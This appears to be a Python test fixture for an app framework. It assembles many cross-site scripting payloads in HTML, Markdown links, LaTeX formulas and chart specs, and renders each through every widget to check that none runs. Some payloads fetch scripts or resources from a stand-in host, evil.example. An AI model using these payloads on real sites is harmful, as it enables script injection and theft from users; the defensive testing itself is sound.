"""What somebody might have an app say so that a page runs it: markup, addresses, formulas, charts."""

from __future__ import annotations

_HIT = "window.__hit=1"

MARKUP = [
    f"<script>{_HIT}</script>",
    f"<SCRIPT SRC=http://evil.example/x.js></SCRIPT><script>{_HIT}//",
    f"</textarea><script>{_HIT}</script>",
    f"</title></style></noscript><script>{_HIT}</script>",
    f"<scr<script>ipt>{_HIT}</scr</script>ipt>",
    f"<img src=x onerror={_HIT}>",
    f'"><img src=x onerror="{_HIT}">',
    f"<img/src=x/onerror={_HIT}//",
    f"<img src='x' onerror='{_HIT}' alt='",
    "<img src=http://evil.example/pixel.gif>",
    f"<svg onload={_HIT}>",
    f"<svg><script>{_HIT}</script></svg>",
    f"<svg><animate onbegin={_HIT} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{_HIT}'><text y=9>x</text></a></svg>",
    f"<svg><foreignObject><img src=x onerror={_HIT}></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg/>#x'/></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_HIT}>",
    f"<math href='javascript:{_HIT}'>x</math>",
    f"<body onload={_HIT}>",
    f"<details open ontoggle={_HIT}>",
    f"<video><source onerror={_HIT}></video>",
    f"<audio src=x onerror={_HIT}></audio>",
    f"<input autofocus onfocus={_HIT}>",
    f"<select autofocus onfocus={_HIT}>",
    f"<marquee onstart={_HIT}>x</marquee>",
    f"<div onpointerover={_HIT} style='position:fixed;inset:0;z-index:9999'>x</div>",
    f"<iframe src='javascript:{_HIT}'></iframe>",
    "<iframe srcdoc='<script>parent.__hit=1</script>'></iframe>",
    "<iframe src=http://evil.example/></iframe>",
    f"<object data='javascript:{_HIT}'></object>",
    f"<embed src='javascript:{_HIT}'>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import 'http://evil.example/x.css'; body{background:url(http://evil.example/b)}</style>",
    "<base href='http://evil.example/'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_HIT}'>",
    f"<form action='javascript:{_HIT}'><button>x</button></form>",
    f"<button formaction='javascript:{_HIT}'>x</button>",
    f"<a href='javascript:{_HIT}'>x</a>",
    f"<template><script>{_HIT}</script></template>",
    f"<!--><script>{_HIT}</script>-->",
    f"<![CDATA[<script>{_HIT}</script>]]>",
    f"<?xml version='1.0'?><script>{_HIT}</script>",
    f"&lt;script&gt;{_HIT}&lt;/script&gt;",
    f"&#60;img src=x onerror={_HIT}&#62;",
    f"\u202e<script>{_HIT}</script>\u202c",
    f"{{{{constructor.constructor('{_HIT}')()}}}}",
    f"${{{_HIT}}}",
]

LINKS = [
    f"[x](javascript:{_HIT})",
    f"[x](JaVaScRiPt:{_HIT})",
    f"[x](java&#10;script:{_HIT})",
    f"[x](&#106;avascript:{_HIT})",
    f"[x](&#x6A;&#x61;vascript&colon;{_HIT})",
    f"[x](\x01javascript:{_HIT})",
    f"[x](<java\tscript:{_HIT}>)",
    f"[x](javascript&#58;{_HIT})",
    "[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19oaXQ9MTwvc2NyaXB0Pg==)",
    f"[x](vbscript:{_HIT})",
    "[x](//evil.example/)",
    f'[x](https://example.com "\\" onmouseover={_HIT} x=\\"")',
    f"[x][r]\n\n[r]: javascript:{_HIT}",
    f"<javascript:{_HIT}>",
    f"![x](javascript:{_HIT})",
    "![x](http://evil.example/pixel.gif)",
    f'![" onerror={_HIT} "](x)',
    "![x](data:text/html,<script>parent.__hit=1</script>)",
    "![x](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0id2luZG93Ll9faGl0PTEiLz4=)",
    f"[^1]\n\n[^1]: <img src=x onerror={_HIT}> [x](javascript:{_HIT})",
    f"| <img src=x onerror={_HIT}> | [x](javascript:{_HIT}) |\n| - | - |\n| <svg onload={_HIT}> | `<script>` |",
    f'```"><img src=x onerror={_HIT}>\n</code></pre><script>{_HIT}</script>\n```',
    f"- [ ] <img src=x onerror={_HIT}>",
]

FORMULAS = [
    rf"$\href{{javascript:{_HIT}}}{{x}}$",
    rf"$\url{{javascript:{_HIT}}}$",
    r"$\htmlData{a=b}{x} \htmlId{root}{x} \htmlClass{x}{x}$",
    r"$\htmlStyle{position:fixed}{x}$",
    r"$\includegraphics{http://evil.example/pixel.gif}$",
    rf"$\text{{<img src=x onerror={_HIT}>}}$",
    r"$\def\x{\x\x}\x$",
    rf"$$\unknown{{<script>{_HIT}</script>$$",
]

CORPUS = [*MARKUP, *LINKS, *FORMULAS]
"""All of it. None may come to anything, wherever an app says it."""

_BAD = f"javascript:{_HIT}"
_DATA = {"values": [{"a": MARKUP[5], "b": 3, "link": _BAD, "u": "http://evil.example/pixel.gif"}]}
_LITE = "https://vega.github.io/schema/vega-lite/v6.json"
_XY = {"x": {"field": "a", "type": "nominal"}, "y": {"field": "b", "type": "quantitative"}}
_CODE = f"constructor.constructor('{_HIT}')()"

CHARTS: list[dict[str, object]] = [
    {"$schema": _LITE, "title": MARKUP[0], "data": _DATA, "mark": {"type": "bar", "tooltip": True},
     "encoding": {**_XY, "href": {"field": "link"},
                  "tooltip": [{"field": "a"}, {"field": "link", "title": MARKUP[5]}]}},
    {"$schema": _LITE, "data": {"url": "http://evil.example/data.json"}, "mark": "bar", "encoding": _XY},
    {"$schema": _LITE, "data": _DATA, "mark": "image", "encoding": {**_XY, "url": {"field": "u"}}},
    {"$schema": _LITE, "data": _DATA, "mark": {"type": "bar", "href": _BAD}, "encoding": _XY,
     "transform": [{"calculate": _CODE, "as": "c"}, {"filter": f"datum.{_CODE}"}]},
    {"$schema": _LITE, "data": _DATA, "mark": "bar", "encoding": _XY, "params": [{"name": "p", "expr": _CODE}]},
    {"$schema": _LITE, "data": _DATA, "mark": "bar", "encoding": _XY,
     "params": [{"name": "p", "value": 1, "bind": {"input": "range", "name": MARKUP[5], "element": "input"}}]},
    {"$schema": _LITE, "data": _DATA, "mark": "bar", "encoding": _XY, "usermeta": {"embedOptions": {
        "actions": True, "ast": False, "patch": "http://evil.example/patch.json", "editorUrl": _BAD,
        "config": "http://evil.example/config.json", "loader": {"baseURL": "http://evil.example/"},
        "defaultStyle": f"</style><img src=x onerror={_HIT}>", "sourceHeader": MARKUP[0]}}},
    {"data": [{"type": "scatter", "x": [1, 2], "y": [1, 2], "mode": "markers+text", "name": MARKUP[5],
               "text": [MARKUP[0], f'<a href="{_BAD}">x</a>'], "hovertext": [MARKUP[5], MARKUP[10]],
               "hovertemplate": f'<a href="{_BAD}">{MARKUP[5]}</a>'}],
     "layout": {"title": {"text": f'<a href="{_BAD}" onclick="{_HIT}" style="background:url({_BAD})">x</a>{MARKUP[5]}'},
                "annotations": [{"text": f"{MARKUP[10]}<a href='java\nscript:{_HIT}'>x</a>", "x": 1, "y": 1}],
                "images": [{"source": "http://evil.example/pixel.gif", "x": 0, "y": 0, "sizex": 1, "sizey": 1}]}},
    {"data": [{"type": "choropleth", "locations": ["PRT"], "z": [1]}], "layout": {"title": {"text": MARKUP[5]}}},
    {"data": [{"type": "image", "source": "http://evil.example/pixel.gif"}], "layout": {}},
]  # fmt: skip
"""Charts that try to run, to fetch or to lead to something."""

APP = f"""
CORPUS = {CORPUS!r}
CHARTS = {CHARTS!r}
EVERY = "\\n".join(CORPUS)
"""

APP += r'''
PICTURE = """<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9' onload='window.__hit=1'>
<script>window.__hit=1</script></svg>"""

@app
def texts():
    """Say each of them as Markdown and as a note."""
    for text in CORPUS:
        markdown(text)
        note(text, "warning")
    return "All said."

@app
def blocks():
    """Say all of them through every other kind of block."""
    markdown(EVERY)
    markdown(CORPUS[n] + "\n" for n in range(len(CORPUS)))
    code(EVERY, CORPUS[5])
    code(EVERY, "html")
    json({text: [text] for text in CORPUS})
    table([[text, text] for text in CORPUS], columns=[CORPUS[0], CORPUS[5]], caption=EVERY)
    table([[text, 1] for text in CORPUS[:20]], columns=[CORPUS[5], CORPUS[10]], caption=CORPUS[5])
    metric(EVERY, CORPUS[5], CORPUS[0], unit=CORPUS[10])
    with progress(3, EVERY, unit=CORPUS[5]) as going:
        going.advance(1)
    with status(EVERY) as work:
        work.step(EVERY)
        work.failed()
    thinking(EVERY)
    write(type(CORPUS[5], (Exception,), {})(EVERY))
    image(PICTURE, alt=CORPUS[5], caption=EVERY)
    audio(b"RIFF" + b"\0" * 40, type="audio/wav", caption=EVERY)
    video(b"\0\0\0\x18ftypmp42", type="video/mp4", caption=EVERY)
    for text in CORPUS[:8]:
        file(b"<script>parent.__hit=1</script>", name=text.replace("/", "_") + ".html", type="text/html", label=text)
    with section(EVERY):
        write("Inside.")
    for part in tabs(*CORPUS[:6]):
        with part:
            write(EVERY)
    with expander(EVERY):
        write(EVERY)
    return {EVERY: EVERY}

@app
def charts():
    """Draw what should not be drawn so."""
    for spec in CHARTS:
        chart(spec, caption=CORPUS[5])
    return "All drawn."

@app
def questions():
    """Ask with them in every place that has words."""
    said = {"help": CORPUS[5]}
    form(CORPUS[0], {
        CORPUS[5]: field(str, CORPUS[5], placeholder=CORPUS[0], **said),
        "secret": field(str, CORPUS[6], secret=True, optional=True, **said),
        "lines": field(str, CORPUS[7], multiline=True, default=EVERY, **said),
        "number": field(int, CORPUS[8], unit=CORPUS[5], default=3, **said),
        "slider": field(int, CORPUS[10], slider=True, min=0, max=9, unit=CORPUS[5], default=3, **said),
        "day": field(__import__("datetime").date, CORPUS[11], optional=True, **said),
        "yes": field(bool, CORPUS[12], default=True, **said),
        "one": field(label=CORPUS[13], options=CORPUS, default=CORPUS[5], **said),
        "few": field(label=CORPUS[14], options=CORPUS[:4], multiple=True, default=CORPUS[:2], **said),
        "sheet": field(File, CORPUS[15], optional=True, accept=[".csv"], **said),
    })
    choose(CORPUS[5], CORPUS[:5], help=EVERY)
    choose(CORPUS[6], CORPUS, help=EVERY)
    confirm(CORPUS[7], yes=CORPUS[0][:50], no=CORPUS[6][:50])
    approve(CORPUS[8], details=EVERY, yes=CORPUS[0][:50], no=CORPUS[6][:50])
    edit_table(CORPUS[10], [[text, 1] for text in CORPUS[:9]], columns=[CORPUS[5], CORPUS[0]])
    chat(CORPUS[11])
    return EVERY
'''
